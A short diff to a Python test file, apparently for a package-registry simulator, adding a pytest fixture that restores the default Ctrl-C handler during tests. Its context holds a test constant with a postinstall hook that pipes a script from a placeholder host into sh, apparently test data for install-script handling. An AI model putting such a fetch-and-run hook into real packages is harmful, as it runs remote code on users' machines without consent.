@@ -9,7 +9,7 @@ import signal
 import sqlite3
 import subprocess
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from contextlib import closing
 from pathlib import Path
 
@@ -22,6 +22,14 @@ from tests.names.small import small_bytes
 from tests.registry_simulator import Fault, RegistrySimulator
 
 FETCHES = {"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}}
+
+
+@pytest.fixture(autouse=True)
+def heard() -> Iterator[None]:
+    """Runs started here hear ^C, even if these tests run in the background, where shells have it ignored."""
+    before = signal.signal(signal.SIGINT, signal.default_int_handler)
+    yield
+    signal.signal(signal.SIGINT, before)
 
 
 @pytest.fixture
